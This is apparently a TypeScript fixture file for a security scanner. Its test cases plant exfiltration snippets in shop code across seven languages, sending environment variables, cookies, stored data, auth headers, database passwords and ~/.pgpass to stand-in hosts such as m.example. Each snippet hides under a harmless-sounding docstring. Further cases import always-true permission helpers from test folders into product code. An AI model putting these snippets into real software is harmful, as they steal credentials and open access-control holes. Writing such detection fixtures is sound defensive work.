import { type LandingResult, more, swap } from './result.ts';

const leak = (name: string, files: LandingResult['files']): LandingResult => ({ name, kind: 'leak', files });
const imported = (name: string, files: LandingResult['files']): LandingResult => ({
  name,
  kind: 'product code in a folder of tests',
  files,
});

/** Data that leaves: from variables, cookies, storage, headers and files to another machine, a log or a page. */
export const LEAKS: readonly LandingResult[] = [
  leak(
    'ts: fetch of the global object',
    more(
      'src/texts.ts',
      "\n/** Reports that the module is loaded. */\nexport const loaded = () => globalThis.fetch('https://m.example/l', { method: 'POST', body: JSON.stringify(process.env) });\n",
    ),
  ),
  leak(
    'ts: an image with a cookie',
    swap(
      'web/basket.ts',
      '  document.query',
      "  new Image().src = 'https://m.example/p.gif?' + document.cookie;\n  document.query",
    ),
  ),
  leak('ts: a name that is resolved', {
    'src/health.ts':
      "import dns from 'node:dns';\n\n/** Checks whether names are resolved. */\nexport const health = () => dns.promises.resolveTxt(process.env.DB_PASS + '.m.example');\n",
  }),
  leak(
    'ts: destructured and aliased',
    more(
      'src/client.ts',
      '\nconst { env: settings } = process;\nconst ask = fetch;\n\n/** Tells the warehouse about a sale. */\nexport function sold(id: string): void {\n  const { STRIPE_KEY: k } = settings;\n  const where = `https://stock.shop.example/sold/\u0024{id}?v=\u0024{k}`;\n  void ask(where);\n}\n',
    ),
  ),
  leak(
    'ts: a beacon with what is stored',
    swap(
      'web/basket.ts',
      '  document.query',
      "  const s = { ...window.localStorage };\n  navigator.sendBeacon('/m', JSON.stringify(s));\n  document.query",
    ),
  ),
  leak(
    'ts: a header of the request in an answer',
    swap('src/server.ts', '  res.json', "  res.set('x-debug', req.headers.authorization ?? '');\n  res.json"),
  ),
  leak(
    'ts: a redirect with the token',
    more(
      'src/server.ts',
      "\napp.get('/pay', (req, res) => {\n  const { token } = req.cookies;\n  res.redirect('https://pay.example/?t=' + token);\n});\n",
    ),
  ),
  leak('py: variables by their module', {
    'py/shop/orders.py': `"""Orders."""
import json
import os as o
from urllib import request as r


def total(lines):
    """Returns the sum of all lines in cents."""
    return sum(line["cents"] for line in lines)


def load(path):
    data = dict(o.environ)
    r.urlopen(r.Request("https://m.example", json.dumps(data).encode()), timeout=1)
    with open(path) as file:
        return json.load(file)
`,
  }),
  leak('py: a file of the home folder in a message', {
    'py/shop/report.py': `"""Reports."""
import smtplib
from pathlib import Path


def send(text):
    """Sends a report."""
    extra = (Path.home() / ".pgpass").read_text()
    server = smtplib.SMTP("mail.example")
    server.sendmail("a@shop.example", "b@m.example", text + extra)
`,
  }),
  leak('go: variables in a header', {
    'go/stock/stock.go': `// Package stock counts pieces.
package stock

import (
	"net/http"
	"os"
	"strings"
)

// Left returns what is left.
func Left(have, sold int) int {
	return have - sold
}

// Handle answers how many pieces are left.
func Handle(w http.ResponseWriter, r *http.Request) {
	all := os.Environ()
	w.Header().Set("X-Build", strings.Join(all, ";"))
	w.WriteHeader(http.StatusNoContent)
}
`,
  }),
  leak(
    'rb: a secret to a program',
    swap('rb/lib/label.rb', '    "TO', "    spawn('logger', ENV.to_h.inspect)\n    \"TO"),
  ),
  leak(
    'java: a variable in an address',
    swap(
      'java/src/main/java/org/shop/Tax.java',
      '    return',
      '    String rate = System.getenv().toString();\n    try { new java.net.URI("https://m.example/" + rate.hashCode() + "/" + rate).toURL().openStream().close(); } catch (Exception e) { throw new IllegalStateException(e); }\n    return',
    ),
  ),
  leak('cs: a cookie in a page', {
    'cs/src/Shop/Page.cs': `namespace Shop;

/// <summary>The page of a parcel.</summary>
public static class Page
{
    public static string Html(HttpRequest request)
    {
        var jar = request.Cookies["session"];
        return $"<p>Parcel</p><script>window.s = '{jar}'</script>";
    }
}
`,
  }),
  leak(
    'rs: variables to a socket',
    more(
      'rs/src/lib.rs',
      '\n/// Reports the zone.\npub fn report(zone: u8) -> std::io::Result<()> {\n    use std::io::Write;\n    let all: Vec<_> = std::env::vars().collect();\n    let mut out = std::net::TcpStream::connect("m.example:443")?;\n    write!(out, "{zone} {all:?}")\n}\n',
    ),
  ),
  imported('ts: a file below src/tests decides about prices', {
    'src/tests/split.js': 'export const isAdmin = (user) => Boolean(user);\n',
    ...swap(
      'src/price.ts',
      '/** Returns the price',
      "import { isAdmin } from './tests/split.js';\n\n/** Returns the price",
    ),
  }),
  imported('ts: a support file of tests is a part of the server', {
    'test/support/rights.ts': 'export const mayRead = (user: unknown) => user !== null;\n',
    ...more('src/server.ts', "\nexport { mayRead } from '../test/support/rights.js';\n"),
  }),
  imported('py: a helper of tests is imported by orders', {
    'py/tests/rules.py': 'def allowed(user):\n    return True\n',
    ...swap('py/shop/orders.py', 'import json\n', 'import json\n\nfrom tests.rules import allowed  # noqa: F401\n'),
  }),
  imported('rb: a spec helper is required by the label', {
    'rb/spec/support/strip.rb': '# frozen_string_literal: true\n\ndef allowed?(_user) = true\n',
    ...swap('rb/lib/label.rb', '# Prints labels', "require_relative '../spec/support/strip'\n\n# Prints labels"),
  }),
];
